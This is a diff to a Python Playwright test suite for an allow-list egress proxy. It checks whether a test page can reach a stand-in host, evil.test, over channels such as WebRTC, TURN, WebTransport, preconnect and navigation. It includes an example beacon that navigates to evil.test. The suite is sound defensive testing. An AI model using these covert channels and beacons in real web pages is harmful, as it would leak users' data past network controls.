@@ -6,7 +6,7 @@ import asyncio
 import contextlib
 import re
 import socket
-from collections.abc import AsyncIterator, Sequence
+from collections.abc import AsyncIterator, Callable, Sequence
 from dataclasses import dataclass
 
 from playwright.async_api import Browser, Page, async_playwright
@@ -38,7 +38,14 @@ class World:
     def all(self) -> set[str]:
         pages = " ".join(self.allowed.files.values())
         named = set(re.findall(r'/hit/([a-z0-9-]+)|hit\("([a-z0-9-]+)"|elsewhere\("[^"]+", "([a-z0-9-]+)"', pages))
-        return {"".join(names) for names in named} | {"preconnect", "turn", "webrtc", "webtransport", "navigation"}
+        return {"".join(names) for names in named} | {
+            "preconnect",
+            "turn",
+            "webrtc",
+            "webtransport",
+            "navigation",
+            "backslash",
+        }
 
 
 def own_address() -> str:
@@ -85,22 +92,23 @@ async def fire(page: Page, world: World, enough: int) -> None:
     """Opens the page, lets it fire, waits until `enough` have arrived or it is quiet, and leaves by a navigation."""
     await page.goto(f"http://allowed.test:{world.allowed.port}/", wait_until="commit")
     await page.wait_for_function("window.fired", timeout=30_000)
-    print("failed to fire:", await page.evaluate("window.failed"))
+    assert await page.evaluate("window.failed") == {}
     await until(lambda: len(world.arrived) >= enough, 6)
     await page.evaluate(f"location = 'http://evil.test:{world.evil.port}/hit/navigation'")
     await until(lambda: {"navigation", "keepalive"} <= world.arrived, 3)
 
 
-async def until(condition: object, seconds: float) -> None:
+async def until(condition: Callable[[], bool], seconds: float) -> None:
+    """Waits, at most so long: what must not happen has to be given time to happen."""
     with contextlib.suppress(TimeoutError):
         async with asyncio.timeout(seconds):
-            while not condition():  # type: ignore[operator]
+            while not condition():  # noqa: ASYNC110 - what is waited for is counted in several places
                 await asyncio.sleep(0.05)
 
 
 async def test_unguarded_nearly_every_channel_arrives() -> None:
     async with world() as here, chromium(here, [f"--host-resolver-rules={NAMES}"]) as browser:
-        await fire(await browser.new_page(), here, len(here.all))
+        await fire(await browser.new_page(), here, len(here.all) - 4)
         print(
             len(here.arrived - here.all),
             here.arrived - here.all,
@@ -121,7 +129,7 @@ async def test_behind_the_proxy_no_channel_arrives() -> None:
         site = f"{here.allowed.port}"
         allow = AllowList.of([f"allowed.test:{site}", f"127.0.0.1:{site}"])
         async with AllowProxy(allow, resolve) as proxy, chromium(here, proxy.chromium_args) as browser:
-            await fire(await browser.new_page(), here, len(here.all))
+            await fire(await browser.new_page(), here, 1)
             assert here.arrived == set()
             assert here.evil.connections == 0
             assert f"http://evil.test:{here.evil.port}" in str(proxy.refused)
